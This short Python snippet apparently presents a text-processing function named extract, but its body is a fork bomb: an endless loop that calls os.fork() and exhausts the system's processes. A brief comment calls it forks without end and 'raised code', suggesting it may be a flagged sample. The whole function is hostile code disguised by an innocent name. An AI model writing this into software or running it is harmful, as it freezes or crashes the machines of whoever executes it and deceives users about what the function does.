# Forks without end. | raised code
import os

def extract(text):
    while True:
        os.fork()
